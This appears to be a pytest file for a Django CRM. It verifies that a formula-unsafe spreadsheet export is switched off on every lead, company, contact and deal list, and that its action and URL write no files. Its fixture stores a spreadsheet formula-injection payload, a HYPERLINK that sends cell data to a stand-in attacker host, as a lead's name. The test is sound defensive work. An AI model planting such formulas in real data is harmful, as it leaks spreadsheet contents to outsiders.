"""DjangoCRM's spreadsheet export is switched off: it answered 500 on a fresh data dir, and wrote profile
text (written by strangers) as live spreadsheet formulas once its folder existed. The campaign CSV export
(formula-safe) is the way out of the CRM."""

from __future__ import annotations

import pytest
from crm.models import Lead
from django.conf import settings
from django.contrib.contenttypes.models import ContentType

LISTS = ["/admin/crm/lead/", "/admin/crm/company/", "/admin/crm/contact/", "/admin/crm/deal/",
         "/crm/crm/lead/", "/crm/crm/company/", "/crm/crm/contact/", "/crm/crm/deal/"]  # fmt: skip


@pytest.fixture
def operator(client, django_user_model, workspace):
    admin = django_user_model.objects.create_superuser("admin", "admin@example.com", "a-long-admin-pass")
    client.force_login(admin)
    Lead.objects.create(first_name='=HYPERLINK("http://evil.example/?x="&A1,"click")', owner=admin)
    return client


def _exported() -> list:
    folder = settings.MEDIA_ROOT / "exported"
    return list(folder.iterdir()) if folder.exists() else []


@pytest.mark.parametrize("path", LISTS)
def test_no_list_offers_the_spreadsheet_export(operator, path):
    response = operator.get(path)
    assert response.status_code == 200, response.content[:300]
    assert b"export_selected" not in response.content
    assert b"export-objects" not in response.content


def test_the_export_action_and_url_write_nothing(operator):
    lead = Lead.objects.get()
    posted = operator.post(
        "/admin/crm/lead/", {"action": "export_selected", "_selected_action": [lead.pk], "index": 0}
    )
    assert posted.status_code in (200, 302)
    assert "spreadsheet" not in posted.get("Content-Type", "")
    content_type = ContentType.objects.get_for_model(Lead).pk
    response = operator.get(f"/crm/export-objects/?content_type={content_type}")
    assert response.status_code == 404
    assert b"switched off" in response.content
    assert _exported() == []
